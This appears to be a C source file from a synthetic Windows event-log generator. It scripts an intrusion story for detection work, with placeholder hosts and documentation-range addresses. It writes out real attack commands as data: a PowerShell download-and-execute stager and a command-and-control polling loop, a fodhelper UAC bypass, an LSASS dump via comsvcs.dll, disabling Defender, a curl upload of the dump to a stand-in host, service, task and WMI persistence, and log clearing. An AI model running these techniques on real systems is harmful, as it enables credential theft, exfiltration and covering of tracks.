/* story_attack.c - Thursday, 2026-03-05, 10:38 to 11:54 UTC.
 *
 * m.keller opens RE_2026-0317.docm; it starts PowerShell with an encoded command,
 * which fetches a script (four 4104 parts) from 203.0.113.45. Discovery by whoami,
 * net, nltest. Elevation by fodhelper. A first memory dump of lsass is stopped by
 * Defender, real-time protection is turned off, the second dump (#24) works and is
 * renamed and sent away. With t.brandt's password on to FS-02 by a service, and
 * back from there: a service, a task and a WMI consumer on WS-FIN-07. Then the
 * Security and the Windows PowerShell log are cleared.
 * Commands and addresses are harmless: hosts are example names, addresses from
 * documentation ranges, the fetched script only asks for names and versions.
 */
#include "kinds.h"

#include "../writer/ew_text.h"

#include <string.h>

#define SYSTEM32 "C:\\Windows\\System32\\"
#define POWERSHELL SYSTEM32 "WindowsPowerShell\\v1.0\\powershell.exe"
#define NO_GUID "{00000000-0000-0000-0000-000000000000}"
#define CONTROL_IP "203.0.113.45"
#define CONTROL_NAME "cdn-status.example"

static const char *at(struct story *s, const char *clock)
{
    return story_text(s, "2026-03-05 %s", clock);
}

/* The command line: UTF-16LE in base64 behind -Enc. */
static const char *encoded(struct story *s, const char *command)
{
    static const char digit[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    struct ew_buf wide = { 0 }, out = { 0 };
    const char *text;

    ew_buf_text(&out, "powershell.exe -NoP -NonI -W Hidden -Enc ");
    ew_text_utf16(ew_str(command), &wide);
    for (size_t i = 0; i < wide.n; i += 3) {
        uint32_t v = (uint32_t)wide.p[i] << 16 |
                     (i + 1 < wide.n ? (uint32_t)wide.p[i + 1] << 8 : 0) |
                     (i + 2 < wide.n ? wide.p[i + 2] : 0);

        ew_buf_printf(&out, "%c%c%c%c", digit[v >> 18], digit[v >> 12 & 63],
                      i + 1 < wide.n ? digit[v >> 6 & 63] : '=',
                      i + 2 < wide.n ? digit[v & 63] : '=');
    }
    text = ew_arena_copy(&s->arena, (struct ew_str){ (char *)out.p, out.n }).p;
    ew_buf_release(&wide);
    ew_buf_release(&out);
    return text;
}

/* The fetched script: asks around, and carries a long string of nothing. */
static const char *recon_script(struct story *s)
{
    static const char head[] =
        "function Get-SiteStatus {\r\n"
        "    param([string]$Server = 'https://" CONTROL_NAME "/p/')\r\n"
        "    $facts = [ordered]@{}\r\n"
        "    $facts.Host = $env:COMPUTERNAME\r\n"
        "    $facts.User = [Security.Principal.WindowsIdentity]::GetCurrent().Name\r\n"
        "    $facts.Domain = (Get-WmiObject Win32_ComputerSystem).Domain\r\n"
        "    $facts.Build = [Environment]::OSVersion.Version.ToString()\r\n"
        "    $facts.Products = Get-WmiObject -Namespace root\\SecurityCenter2 -Class "
        "AntiVirusProduct | ForEach-Object displayName\r\n"
        "    $facts.Neighbours = Get-WmiObject Win32_PingStatus -Filter \"Address='FS-02'\" | "
        "ForEach-Object IPV4Address\r\n"
        "    foreach ($name in 'FS-02', 'DC-01', 'SRV-PRN-01') { $facts[$name] = Test-Connection "
        "$name -Count 1 -Quiet }\r\n"
        "    return ($facts | ConvertTo-Json -Compress)\r\n"
        "}\r\n"
        "$blob = @'\r\n";
    static const char tail[] =
        "'@\r\n"
        "$key = [Text.Encoding]::ASCII.GetBytes('example')\r\n"
        "while ($true) {\r\n"
        "    $reply = (New-Object Net.WebClient).UploadString('https://" CONTROL_NAME
        "/p/', (Get-SiteStatus))\r\n"
        "    if ($reply) { Invoke-Expression $reply }\r\n"
        "    Start-Sleep -Seconds (Get-Random -Minimum 40 -Maximum 80)\r\n"
        "}\r\n";
    struct ew_buf b = { 0 };
    const char *text;

    ew_buf_text(&b, head);
    for (int line = 0; line < 60; line++)
        ew_buf_printf(&b, "%s\r\n", story_digest(s, story_text(s, "blob %d", line), 76));
    ew_buf_text(&b, tail);
    text = ew_arena_copy(&s->arena, (struct ew_str){ (char *)b.p, b.n }).p;
    ew_buf_release(&b);
    return text;
}

static struct process *document(struct story *s, struct cast_now *c)
{
    static const char stage[] =
        "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX "
        "$c.DownloadString('https://" CONTROL_NAME "/u/status')";
    uint64_t t = story_time(at(s, "10:38:44.1312207"));
    const char *path =
        "C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
        "Outlook\\Q3ZK7P1L\\RE_2026-0317.docm";
    struct process *word, *shell;

    c->outlook =
        story_standing(s, t - 3 * TICKS_HOUR, 6120, c->explorer, c->user,
                       "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                       "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ");
    story_file(s, t, c->outlook, path);
    word = story_start(s, t + TICKS_SECOND, c->outlook, c->user,
                       "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                       story_text(s,
                                  "\"C:\\Program Files\\Microsoft "
                                  "Office\\root\\Office16\\WINWORD.EXE\" /n \"%s\" /o \"\"",
                                  path));
    t = story_time(at(s, "10:41:58.7100921"));
    shell = story_start(s, t, word, c->user, POWERSHELL, encoded(s, stage));
    story_start(s, t + 400000, shell, c->user, SYSTEM32 "conhost.exe",
                "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
    story_engine(s, t + 5 * TICKS_SECOND / 10, shell);
    story_script(s, t + TICKS_SECOND, shell, stage, "", 8000);
    story_file(s, t + TICKS_SECOND, shell,
               "C:\\Users\\m.keller\\AppData\\Local\\Temp\\__PSScriptPolicyTest_kqpwx0rn.1eg.ps1");
    story_lookup(s, t + 2 * TICKS_SECOND, shell, CONTROL_NAME, CONTROL_IP);
    story_connect(s, t + 2 * TICKS_SECOND, shell, CONTROL_IP, "-", 443, "https");
    story_script(s, t + 4 * TICKS_SECOND, shell, recon_script(s), "", 1600);
    return shell;
}

/* A console program under the given shell, a few seconds long. */
static struct process *run(struct story *s, const char *clock, const struct process *shell,
                           const char *image, const char *command)
{
    uint64_t t = story_time(at(s, clock));
    struct process *p = story_start(s, t, shell, shell->logon, image, command);

    story_end(s, story_after(s, t, 300, 3000), p);
    return p;
}

static void ask_net(struct story *s, const char *clock, const struct process *shell,
                    const char *words)
{
    uint64_t t = story_time(at(s, clock));
    struct process *net =
        story_start(s, t, shell, shell->logon, SYSTEM32 "net.exe",
                    story_text(s, "\"C:\\Windows\\system32\\net.exe\" %s", words));
    struct process *net1 = story_start(s, t + 300000, net, shell->logon, SYSTEM32 "net1.exe",
                                       story_text(s, "C:\\Windows\\system32\\net1 %s", words));
    const struct logon *l = shell->logon;

    if (strstr(words, "localgroup") != NULL)
        TELL(s, LOG_SECURITY, &SEC_4799, t + 500000, "Administrators", "Builtin", "S-1-5-32-544",
             l->who->sid, l->who->name, l->who->domain,
             story_text(s, "0x%llx", (unsigned long long)l->id), story_text(s, "0x%x", net1->pid),
             net1->image);
    story_end(s, t + 4000000, net1);
    story_end(s, t + 4100000, net);
}

static void discovery(struct story *s, const struct process *shell)
{
    run(s, "10:44:10.2200000", shell, SYSTEM32 "whoami.exe",
        "\"C:\\Windows\\system32\\whoami.exe\" /all");
    run(s, "10:44:31.5000000", shell, SYSTEM32 "systeminfo.exe",
        "\"C:\\Windows\\system32\\systeminfo.exe\"");
    run(s, "10:45:02.0100000", shell, SYSTEM32 "ipconfig.exe",
        "\"C:\\Windows\\system32\\ipconfig.exe\" /all");
    ask_net(s, "10:45:40.3300000", shell, "localgroup Administrators");
    ask_net(s, "10:46:15.9000000", shell, "group \"Domain Admins\" /domain");
    ask_net(s, "10:46:48.1000000", shell, "view \\\\FS-02");
    run(s, "10:47:20.6000000", shell, SYSTEM32 "nltest.exe",
        "\"C:\\Windows\\system32\\nltest.exe\" /dclist:corp.example");
    run(s, "10:48:03.0000000", shell, SYSTEM32 "tasklist.exe",
        "\"C:\\Windows\\system32\\tasklist.exe\" /v");
}

static struct process *elevate(struct story *s, struct cast_now *c, const struct process *shell)
{
    struct process *reg, *helper, *high;
    uint64_t t;

    reg = run(s, "10:57:02.4400000", shell, SYSTEM32 "reg.exe",
              "\"C:\\Windows\\system32\\reg.exe\" add "
              "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /ve /d \"powershell.exe "
              "-NoP -W Hidden\" /f");
    t = story_time(at(s, "10:57:02.6100000"));
    story_registry(s, t, reg,
                   story_text(s, "HKU\\%s_Classes\\ms-settings\\shell\\open\\command\\(Default)",
                              WHO_USER.sid),
                   "powershell.exe -NoP -W Hidden");
    t = story_time(at(s, "10:57:20.1000000"));
    helper = story_start(s, t, shell, c->user_admin, SYSTEM32 "fodhelper.exe",
                         "\"C:\\Windows\\system32\\fodhelper.exe\"");
    high = story_start(
        s, t + 8000000, helper, c->user_admin, POWERSHELL,
        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoP -W Hidden");
    story_engine(s, t + TICKS_SECOND, high);
    story_end(s, t + 3 * TICKS_SECOND, helper);
    return high;
}

static void threat(struct story *s, const struct kind *kind, const char *clock,
                   const char *const end[8], const char *process)
{
    uint64_t t = story_time(at(s, clock));

    TELL(s, LOG_DEFENDER, kind, t, "Microsoft Defender Antivirus", "4.18.26010.5",
         "{7B1E24C0-6C1F-4B1B-9D43-0C5D7D0E3A11}", "2026-03-05T11:02:16.204Z", "", "", "2147745641",
         "Behavior:Win32/LsassDump.EX", "5", "Severe", "46", "Suspicious Behavior",
         "https://go.microsoft.com/fwlink/?linkid=37020&name=Behavior:Win32/"
         "LsassDump.EX&threatid=2147745641&enterprise=0",
         end[0], "", end[1], "3", "Real-Time Protection", process, "CORP\\m.keller", "",
         story_text(s, "behavior:_process: %s, pid:%s; file:_C:\\Windows\\Temp\\l.dmp", process,
                    end[7]),
         "1", "Local machine", "1", "Suspended", "0", "Concrete", "0", end[2], end[3], "",
         "0x00000000", "The operation completed successfully. ", "", "0", "0",
         "No additional actions required", end[4], "",
         "AV: 1.445.84.0, AS: 1.445.84.0, NIS: 1.445.84.0", "AM: 1.1.26010.1, NIS: 1.1.26010.1");
}

static void dump(struct story *s, struct cast_now *c, const struct process *high)
{
    static const char trace[] =
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d534|C:\\Windows\\System32\\KERNELBASE.dll+2bb9e|C:"
        "\\Windows\\SYSTEM32\\dbgcore.DLL+6d8d|"
        "C:\\Windows\\SYSTEM32\\dbgcore.DLL+a1b7|C:\\Windows\\System32\\comsvcs.dll+337f9|C:"
        "\\Windows\\System32\\rundll32.exe+3b4d|"
        "C:\\Windows\\System32\\KERNEL32.DLL+17374|C:\\Windows\\SYSTEM32\\ntdll.dll+4cc91";
    struct process *first, *cmd, *second;
    uint64_t t = story_time(at(s, "11:02:16.0300000"));

    first =
        story_start(s, t, high, c->user_admin, SYSTEM32 "rundll32.exe",
                    "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, "
                    "MiniDump 652 C:\\Windows\\Temp\\l.dmp full");
    story_access(s, t + 1200000, first, c->lsass, "0x1fffff", trace);
    story_end(s, t + 2200000, first);
    threat(s, &DEF_1116, "11:02:16.3010000",
           (const char *const[]){ "1", "1", "9", "Not Applicable", "", "", "",
                                  story_text(s, "%u", first->pid) },
           first->image);
    threat(s, &DEF_1117, "11:02:18.8000000",
           (const char *const[]){ "3", "2", "2", "Quarantine", "NT AUTHORITY\\SYSTEM", "", "",
                                  story_text(s, "%u", first->pid) },
           first->image);
    t = story_time(at(s, "11:04:30.5500000"));
    story_script(s, t, high,
                 "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference "
                 "-ExclusionPath C:\\ProgramData",
                 "", 8000);
    story_invoke(s, t + 400000, high, "Set-MpPreference", "DisableRealtimeMonitoring", "True");
    TELL(s, LOG_DEFENDER, &DEF_5001, t + 7000000, "Microsoft Defender Antivirus", "4.18.26010.5");
    TELL(s, LOG_DEFENDER, &DEF_5007, t + 7100000, "Microsoft Defender Antivirus", "4.18.26010.5",
         "",
         "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData = 0x0");
    t = story_time(at(s, "11:06:02.2710000"));
    cmd = story_start(s, t, high, c->user_admin, SYSTEM32 "cmd.exe",
                      "\"C:\\Windows\\system32\\cmd.exe\" /c rundll32.exe "
                      "C:\\Windows\\System32\\comsvcs.dll,#24 652 C:\\ProgramData\\d.bin full");
    second = story_start(
        s, t + 500000, cmd, c->user_admin, SYSTEM32 "rundll32.exe",
        "rundll32.exe  C:\\Windows\\System32\\comsvcs.dll,#24 652 C:\\ProgramData\\d.bin full");
    story_access(s, t + 1900000, second, c->lsass, "0x1fffff", trace);
    story_file(s, t + 2100000, second, "C:\\ProgramData\\d.bin");
    story_end(s, t + 17000000, second);
    story_end(s, t + 17100000, cmd);
    run(s, "11:06:51.8000000", high, SYSTEM32 "cmd.exe",
        "\"C:\\Windows\\system32\\cmd.exe\" /c ren C:\\ProgramData\\d.bin umsatz_2025.xlsx");
    t = story_time(at(s, "11:07:40.0000000"));
    second = story_start(s, t, high, c->user_admin, SYSTEM32 "curl.exe",
                         "\"C:\\Windows\\system32\\curl.exe\" -s -k -T "
                         "C:\\ProgramData\\umsatz_2025.xlsx https://" CONTROL_NAME "/p/7");
    story_lookup(s, t + 3000000, second, CONTROL_NAME, CONTROL_IP);
    story_connect(s, t + 4000000, second, CONTROL_IP, "-", 443, "https");
    story_end(s, t + 31 * TICKS_SECOND, second);
}

/* Out to FS-02: what this host sees of it. */
static void go_on(struct story *s, const struct process *high)
{
    uint64_t t = story_time(at(s, "11:15:08.0900000"));
    struct process *p =
        run(s, "11:15:08.0900000", high, SYSTEM32 "net.exe",
            "\"C:\\Windows\\system32\\net.exe\" use \\\\FS-02\\ADMIN$ /user:CORP\\t.brandt *");

    story_explicit(s, t + 2000000, p, &WHO_ADMIN, "FS-02.corp.example");
    run(s, "11:15:40.6000000", high, SYSTEM32 "cmd.exe",
        "\"C:\\Windows\\system32\\cmd.exe\" /c copy C:\\ProgramData\\upd.exe "
        "\\\\FS-02\\ADMIN$\\Temp\\upd.exe");
    p = run(s, "11:16:05.4000000", high, SYSTEM32 "sc.exe",
            "\"C:\\Windows\\system32\\sc.exe\" \\\\FS-02 create SpoolUpd binPath= "
            "\"C:\\Windows\\Temp\\upd.exe\" start= demand");
    story_connect(s, story_time(at(s, "11:16:05.5000000")), p, "10.20.1.20", "FS-02.corp.example",
                  135, "epmap");
    run(s, "11:16:19.9000000", high, SYSTEM32 "sc.exe",
        "\"C:\\Windows\\system32\\sc.exe\" \\\\FS-02 start SpoolUpd");
}

static void share(struct story *s, uint64_t t, const struct logon *l, const char *name,
                  const char *local, const char *file, const char *port)
{
    const char *id = story_text(s, "0x%llx", (unsigned long long)l->id);

    TELL(s, LOG_SECURITY, &SEC_5140, t, l->who->sid, l->who->name, l->who->domain, id, "File",
         "10.20.1.20", port, name, local, "0x1", "%%4416\\r\\n\\t\\t\\t\\t");
    TELL(s, LOG_SECURITY, &SEC_5145, t + 300000, l->who->sid, l->who->name, l->who->domain, id,
         "File", "10.20.1.20", port, name, local, file, "0x12019f",
         "%%1538\\r\\n\\t\\t\\t\\t%%1541\\r\\n\\t\\t\\t\\t%%4416\\r\\n\\t\\t\\t\\t%%"
         "4417\\r\\n\\t\\t\\t\\t",
         "-");
}

/* And back from FS-02: a service on this host. */
static void come_back(struct story *s, struct cast_now *c)
{
    uint64_t t = story_time(at(s, "11:21:33.2070000"));
    struct logon *l = story_logon(s, t, &WHO_ADMIN, 3, "10.20.1.20", "High");
    const char *id = story_text(s, "0x%llx", (unsigned long long)l->id),
               *path = "C:\\Windows\\Temp\\upd.exe -k netsvcs";
    struct process *p;

    share(s, t + 900000, l, "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\upd.exe", "50811");
    share(s, t + 9000000, l, "\\\\*\\IPC$", "", "svcctl", "50812");
    TELL(s, LOG_SECURITY, &SEC_4697, t + 9600000, l->who->sid, l->who->name, l->who->domain, id,
         "SpoolUpd", path, "0x10", "3", "LocalSystem");
    s->actor_sid = WHO_ADMIN.sid;
    TELL(s, LOG_SYSTEM, &SCM_7045, t + 9610000, "SpoolUpd", path, "user mode service",
         "demand start", "LocalSystem");
    story_registry(s, t + 9620000, c->services,
                   "HKLM\\System\\CurrentControlSet\\Services\\SpoolUpd\\ImagePath", path);
    p = story_start(s, t + 15000000, c->services, c->system, "C:\\Windows\\Temp\\upd.exe", path);
    story_service_state(s, t + 16000000, "SpoolUpd", "running");
    TELL(s, LOG_SYSMON, &SYSMON_17, t + 17000000, "-", "CreatePipe", story_utc(s, t + 16900000),
         p->guid, story_text(s, "%u", p->pid), "\\spoolupd_5e1", p->image, "NT AUTHORITY\\SYSTEM");
    story_connect(s, t + 20000000, p, CONTROL_IP, "-", 443, "https");
    story_logoff(s, t + 14 * TICKS_SECOND, l, 3);
}

static void stay_task(struct story *s, struct cast_now *c, const struct process *high)
{
    static const char content[] =
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\\r\\n<Task version=\"1.2\" "
        "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">"
        "\\r\\n  <RegistrationInfo>\\r\\n    <Author>CORP\\\\m.keller</Author>\\r\\n    "
        "<URI>\\\\Corp\\\\InventoryUpdate</URI>\\r\\n  </RegistrationInfo>\\r\\n  <Triggers>"
        "\\r\\n    <TimeTrigger>\\r\\n      "
        "<StartBoundary>2026-03-05T11:40:00</StartBoundary>\\r\\n      "
        "<Enabled>true</Enabled>\\r\\n    </TimeTrigger>\\r\\n  </Triggers>"
        "\\r\\n  <Actions Context=\"Author\">\\r\\n    <Exec>\\r\\n      "
        "<Command>powershell.exe</Command>\\r\\n      <Arguments>-NoP -W Hidden -File "
        "C:\\\\ProgramData\\\\upd.ps1</Arguments>"
        "\\r\\n    </Exec>\\r\\n  </Actions>\\r\\n</Task>";
    uint64_t t = story_time(at(s, "11:28:14.7000000"));
    const struct logon *l = high->logon;

    run(s, "11:28:14.5000000", high, SYSTEM32 "schtasks.exe",
        "\"C:\\Windows\\system32\\schtasks.exe\" /create /tn \\Corp\\InventoryUpdate /tr "
        "\"powershell.exe -NoP -W Hidden -File C:\\ProgramData\\upd.ps1\" /sc once /st 11:40 /ru "
        "SYSTEM");
    TELL(s, LOG_SECURITY, &SEC_4698, t, l->who->sid, l->who->name, l->who->domain,
         story_text(s, "0x%llx", (unsigned long long)l->id), "\\Corp\\InventoryUpdate", content);
    TELL(s, LOG_TASKS, &TASK_106, t + 30000, "\\Corp\\InventoryUpdate", "CORP\\m.keller");
    story_task(s, story_time(at(s, "11:40:00.0200000")), c->svchost_tasks, c->system,
               "\\Corp\\InventoryUpdate", POWERSHELL,
               "\"powershell.exe\" -NoP -W Hidden -File C:\\ProgramData\\upd.ps1", 95);
}

static void stay_wmi(struct story *s)
{
    uint64_t t = story_time(at(s, "11:31:02.6130000"));
    const char *utc = story_utc(s, t);

    TELL(s, LOG_SYSMON, &SYSMON_19, t, "-", "WmiFilterEvent", utc, "Created", "CORP\\m.keller",
         " \"root\\\\cimv2\"", " \"SiteStatus\"",
         " \"SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA "
         "'Win32_PerfFormattedData_PerfOS_System'\"");
    TELL(s, LOG_SYSMON, &SYSMON_20, t + 300000, "-", "WmiConsumerEvent", utc, "Created",
         "CORP\\m.keller", " \"SiteStatus\"", "Command Line",
         " \"C:\\\\Windows\\\\Temp\\\\upd.exe -w\"");
    TELL(s, LOG_SYSMON, &SYSMON_21, t + 600000, "-", "WmiBindingEvent", utc, "Created",
         "CORP\\m.keller", " \"CommandLineEventConsumer.Name=\\\"SiteStatus\\\"\"",
         " \"__EventFilter.Name=\\\"SiteStatus\\\"\"");
    TELL(
        s, LOG_WMI, &WMI_5861, t + 5000000, "//./root/subscription", "SiteStatus",
        "CommandLineEventConsumer=\"SiteStatus\"",
        "Binding EventFilter: \\ninstance of __EventFilter\\n{\\n\\tEventNamespace = "
        "\"root\\\\\\\\cimv2\";\\n\\tName = \"SiteStatus\";\\n\\tQuery = \"SELECT * FROM "
        "__InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA "
        "'Win32_PerfFormattedData_PerfOS_System'\";\\n};\\nPerm. Consumer: \\ninstance of "
        "CommandLineEventConsumer\\n{\\n\\tCommandLineTemplate = "
        "\"C:\\\\\\\\Windows\\\\\\\\Temp\\\\\\\\upd.exe -w\";\\n\\tName = \"SiteStatus\";\\n};\\n");
}

static void clear(struct story *s, const struct process *high)
{
    const struct logon *l = high->logon;
    uint64_t t = story_time(at(s, "11:52:20.3300000"));

    run(s, "11:51:58.0000000", high, SYSTEM32 "wevtutil.exe",
        "\"C:\\Windows\\system32\\wevtutil.exe\" cl \"Windows PowerShell\"");
    s->actor_sid = l->who->sid;
    TELL(s, LOG_SYSTEM, &LOG_104, story_time(at(s, "11:51:58.2000000")), l->who->name,
         l->who->domain, "Windows PowerShell", "");
    run(s, "11:52:20.1000000", high, SYSTEM32 "wevtutil.exe",
        "\"C:\\Windows\\system32\\wevtutil.exe\" cl Security");
    TELL(s, LOG_SECURITY, &SEC_1102, t, l->who->sid, l->who->name, l->who->domain,
         story_text(s, "0x%llx", (unsigned long long)l->id));
}

void story_attack(struct story *s, struct cast_now *c)
{
    struct process *shell = document(s, c), *high;

    discovery(s, shell);
    high = elevate(s, c, shell);
    dump(s, c, high);
    go_on(s, high);
    come_back(s, c);
    stay_task(s, c, high);
    stay_wmi(s);
    clear(s, high);
}
